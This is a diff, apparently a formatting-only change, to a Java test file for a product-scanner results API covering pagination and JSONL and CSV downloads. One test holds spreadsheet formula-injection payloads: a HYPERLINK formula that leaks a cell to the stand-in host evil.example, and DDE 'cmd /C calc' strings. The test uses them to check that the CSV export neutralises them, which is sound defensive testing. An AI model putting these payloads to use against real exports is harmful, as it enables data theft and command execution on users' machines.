@@ -1,20 +1,20 @@
 package io.productscanner.runtime.results;
 
+import static org.junit.jupiter.api.Assertions.assertArrayEquals;
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
 import com.fasterxml.jackson.databind.JsonNode;
 import com.fasterxml.jackson.databind.node.ObjectNode;
 import io.productscanner.runtime.job.JobRecord;
 import io.productscanner.runtime.job.JobStatus;
 import io.productscanner.runtime.job.JobStore;
 import io.productscanner.runtime.json.Json;
-import io.productscanner.runtime.testing.TestRedis;
 import io.productscanner.runtime.product.ProductResult;
 import io.productscanner.runtime.testing.TestApi;
+import io.productscanner.runtime.testing.TestRedis;
 import io.productscanner.runtime.workflow.nodes.SaveResultNode;
-import org.junit.jupiter.api.AfterAll;
-import org.junit.jupiter.api.BeforeAll;
-import org.junit.jupiter.api.Test;
-import org.junit.jupiter.api.io.TempDir;
-
 import java.io.StringWriter;
 import java.net.URI;
 import java.net.http.HttpRequest;
@@ -27,16 +27,16 @@ import java.util.ArrayList;
 import java.util.HashMap;
 import java.util.List;
 import java.util.Map;
-
-import static org.junit.jupiter.api.Assertions.assertArrayEquals;
-import static org.junit.jupiter.api.Assertions.assertEquals;
-import static org.junit.jupiter.api.Assertions.assertFalse;
-import static org.junit.jupiter.api.Assertions.assertTrue;
+import org.junit.jupiter.api.AfterAll;
+import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
 
 /** {@code GET /api/v2/jobs/{id}/results} through the real Helidon API, over a real Redis and real files. */
 class ResultsApiTest {
     @TempDir
     static Path root;
+
     private static TestApi api;
     private static TestRedis redis;
 
@@ -56,8 +56,9 @@ class ResultsApiTest {
     /** A finished job whose {@code save_result} stored {@code products}. */
     private JobRecord finishedJob(List<ProductResult> products) throws Exception {
         JobRecord job = ResultsFixtures.job(ResultsFixtures.newJobId(), "musinsa", "2025-11-27T08:00:00.000Z");
-        redis.connections().commands().hset(redis.keys().job(job.jobId()),
-                ResultsFixtures.jobHash(job, JobStatus.COMPLETED));
+        redis.connections()
+                .commands()
+                .hset(redis.keys().job(job.jobId()), ResultsFixtures.jobHash(job, JobStatus.COMPLETED));
         ResultsFixtures.save(new SaveResultNode(new ResultsDirectory(root.resolve("results"))), store, job, products);
         return job;
     }
@@ -71,7 +72,8 @@ class ResultsApiTest {
         List<Integer> pageSizes = new ArrayList<>();
         String query = "?limit=100";
         while (true) {
-            JsonNode data = getJson("/api/v2/jobs/" + job.jobId() + "/results" + query, 200).path("data");
+            JsonNode data = getJson("/api/v2/jobs/" + job.jobId() + "/results" + query, 200)
+                    .path("data");
             assertEquals(250, data.path("total").asLong());
             assertEquals("completed", data.path("status").asText());
             data.path("items").forEach(read::add);
@@ -90,15 +92,20 @@ class ResultsApiTest {
         List<ProductResult> products = ResultsFixtures.products(30);
         JobRecord job = finishedJob(products);
 
-        JsonNode first = getJson("/api/v2/jobs/" + job.jobId() + "/results?offset=5&limit=10", 200).path("data");
+        JsonNode first = getJson("/api/v2/jobs/" + job.jobId() + "/results?offset=5&limit=10", 200)
+                .path("data");
         assertEquals(5, first.path("offset").asLong());
         assertEquals(10, first.path("limit").asLong());
         assertEquals(ResultsFixtures.asJson(products).subList(5, 15), list(first.path("items")));
-        JsonNode next = getJson("/api/v2/jobs/" + job.jobId() + "/results?cursor="
-                + first.path("next_cursor").asText(), 200).path("data");
+        JsonNode next = getJson(
+                        "/api/v2/jobs/" + job.jobId() + "/results?cursor="
+                                + first.path("next_cursor").asText(),
+                        200)
+                .path("data");
         assertEquals(15, next.path("offset").asLong());
 
-        JsonNode last = getJson("/api/v2/jobs/" + job.jobId() + "/results?offset=25&limit=10", 200).path("data");
+        JsonNode last = getJson("/api/v2/jobs/" + job.jobId() + "/results?offset=25&limit=10", 200)
+                .path("data");
         assertEquals(5, last.path("items").size());
         assertTrue(last.path("next_cursor").isNull());
     }
@@ -110,7 +117,9 @@ class ResultsApiTest {
 
         HttpResponse<String> response = get("/api/v2/jobs/" + job.jobId() + "/results?format=jsonl");
         assertEquals(200, response.statusCode());
-        assertEquals("application/x-ndjson", response.headers().firstValue("content-type").orElseThrow());
+        assertEquals(
+                "application/x-ndjson",
+                response.headers().firstValue("content-type").orElseThrow());
         List<JsonNode> lines = response.body().lines().map(Json::read).toList();
         assertEquals(ResultsFixtures.asJson(products), lines);
     }
@@ -123,7 +132,8 @@ class ResultsApiTest {
         HttpResponse<String> response = get("/api/v2/jobs/" + job.jobId() + "/results?format=csv");
         assertEquals(200, response.statusCode());
         assertTrue(response.headers().firstValue("content-type").orElseThrow().startsWith("text/csv"));
-        assertEquals("attachment; filename=job_musinsa_" + job.jobId() + ".csv",
+        assertEquals(
+                "attachment; filename=job_musinsa_" + job.jobId() + ".csv",
                 response.headers().firstValue("content-disposition").orElseThrow());
         StringWriter expected = new StringWriter();
         ResultsCsv.writeHeader(expected);
@@ -137,17 +147,38 @@ class ResultsApiTest {
     @Test
     void csvDownloadNeutralisesFormulasFromSellersAndCallersWhileJsonlKeepsEveryByte() throws Exception {
         String sellerName = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"특가, 클릭\")";
-        ProductResult hostile = Json.MAPPER.convertValue(Json.MAPPER.createObjectNode()
-                .put("url", "https://www.musinsa.com/products/1").put("platform", "musinsa").put("product_id", "1")
-                .put("product_set_id", "@SUM(1+1)*cmd|' /C calc'!A0").put("status", "success").put("match", false)
-                .<ObjectNode>set("expected", Json.MAPPER.createObjectNode()
-                        .put("product_name", "+cmd|' /C calc'!A0").put("original_price", -1000)
-                        .put("sale_status", "\t=1+1"))
-                .<ObjectNode>set("fetched", Json.MAPPER.createObjectNode()
-                        .put("product_name", sellerName).put("brand", "-2+3").put("original_price", -1000)
-                        .put("sale_status", "on_sale").put("raw_status", "\r=1"))
-                .set("comparison", Json.MAPPER.createObjectNode().put("product_name", false)
-                        .put("original_price", true)), ProductResult.class);
+        ProductResult hostile = Json.MAPPER.convertValue(
+                Json.MAPPER
+                        .createObjectNode()
+                        .put("url", "https://www.musinsa.com/products/1")
+                        .put("platform", "musinsa")
+                        .put("product_id", "1")
+                        .put("product_set_id", "@SUM(1+1)*cmd|' /C calc'!A0")
+                        .put("status", "success")
+                        .put("match", false)
+                        .<ObjectNode>set(
+                                "expected",
+                                Json.MAPPER
+                                        .createObjectNode()
+                                        .put("product_name", "+cmd|' /C calc'!A0")
+                                        .put("original_price", -1000)
+                                        .put("sale_status", "\t=1+1"))
+                        .<ObjectNode>set(
+                                "fetched",
+                                Json.MAPPER
+                                        .createObjectNode()
+                                        .put("product_name", sellerName)
+                                        .put("brand", "-2+3")
+                                        .put("original_price", -1000)
+                                        .put("sale_status", "on_sale")
+                                        .put("raw_status", "\r=1"))
+                        .set(
+                                "comparison",
+                                Json.MAPPER
+                                        .createObjectNode()
+                                        .put("product_name", false)
+                                        .put("original_price", true)),
+                ProductResult.class);
         JobRecord job = finishedJob(List.of(hostile));
         String results = "/api/v2/jobs/" + job.jobId() + "/results";
 
@@ -160,7 +191,8 @@ class ResultsApiTest {
             row.put(rows.get(0).get(i), rows.get(1).get(i));
         }
         for (String cell : rows.get(1)) {
-            assertFalse(!cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0 && !cell.matches("-\\d+"),
+            assertFalse(
+                    !cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0 && !cell.matches("-\\d+"),
                     "a cell a spreadsheet runs as a formula: " + cell);
         }
         assertEquals("'" + sellerName, row.get("fetched_product_name"), "the seller's text, behind a quote");
@@ -173,13 +205,12 @@ class ResultsApiTest {
         assertEquals("-1000", row.get("fetched_original_price"));
 
         byte[] exact = (Json.write(hostile) + "\n").getBytes(StandardCharsets.UTF_8);
-        assertArrayEquals(exact, getBytes(results + "?format=jsonl"),
-                "JSON Lines carry each result untouched");
-        assertTrue(new String(exact, StandardCharsets.UTF_8).contains(
-                "\"product_name\":\"=HYPERLINK(\\\"https://evil.example/"));
+        assertArrayEquals(exact, getBytes(results + "?format=jsonl"), "JSON Lines carry each result untouched");
+        assertTrue(new String(exact, StandardCharsets.UTF_8)
+                .contains("\"product_name\":\"=HYPERLINK(\\\"https://evil.example/"));
         redis.connections().commands().del(redis.keys().results(job.jobId()));
-        assertArrayEquals(exact, getBytes(results + "?format=jsonl"),
-                "and so does the results file, once Redis has let them go");
+        assertArrayEquals(
+                exact, getBytes(results + "?format=jsonl"), "and so does the results file, once Redis has let them go");
         assertEquals(csv.body(), get(results + "?format=csv").body());
     }
 
@@ -214,10 +245,14 @@ class ResultsApiTest {
 
         JsonNode after = getJson(results + "?limit=15", 200).path("data");
         assertEquals(before, after);
-        JsonNode second = getJson(results + "?limit=15&cursor=" + after.path("next_cursor").asText(), 200)
+        JsonNode second = getJson(
+                        results + "?limit=15&cursor="
+                                + after.path("next_cursor").asText(),
+                        200)
                 .path("data");
         assertEquals(ResultsFixtures.asJson(products).subList(15, 30), list(second.path("items")));
-        assertEquals(ResultsFixtures.asJson(products),
+        assertEquals(
+                ResultsFixtures.asJson(products),
                 get(results + "?format=jsonl").body().lines().map(Json::read).toList());
     }
 
@@ -227,7 +262,9 @@ class ResultsApiTest {
 
         JsonNode data = getJson("/api/v2/jobs/" + job.jobId(), 200).path("data");
         Path file = Path.of(data.path("results_file").asText());
-        assertEquals(root.resolve("results/2025-11-27/job_musinsa_" + job.jobId() + ".jsonl").toAbsolutePath(),
+        assertEquals(
+                root.resolve("results/2025-11-27/job_musinsa_" + job.jobId() + ".jsonl")
+                        .toAbsolutePath(),
                 file);
         assertTrue(Files.isRegularFile(file));
     }
@@ -274,8 +311,12 @@ class ResultsApiTest {
     }
 
     private static byte[] getBytes(String path) throws Exception {
-        HttpResponse<byte[]> response = api.http().send(HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + api.port()
-                + path)).timeout(Duration.ofSeconds(10)).build(), HttpResponse.BodyHandlers.ofByteArray());
+        HttpResponse<byte[]> response = api.http()
+                .send(
+                        HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + api.port() + path))
+                                .timeout(Duration.ofSeconds(10))
+                                .build(),
+                        HttpResponse.BodyHandlers.ofByteArray());
         assertEquals(200, response.statusCode());
         return response.body();
     }
@@ -293,7 +334,11 @@ class ResultsApiTest {
     }
 
     private static HttpResponse<String> get(String path) throws Exception {
-        return api.http().send(HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + api.port() + path))
-                .timeout(Duration.ofSeconds(10)).build(), HttpResponse.BodyHandlers.ofString());
+        return api.http()
+                .send(
+                        HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + api.port() + path))
+                                .timeout(Duration.ofSeconds(10))
+                                .build(),
+                        HttpResponse.BodyHandlers.ofString());
     }
 }
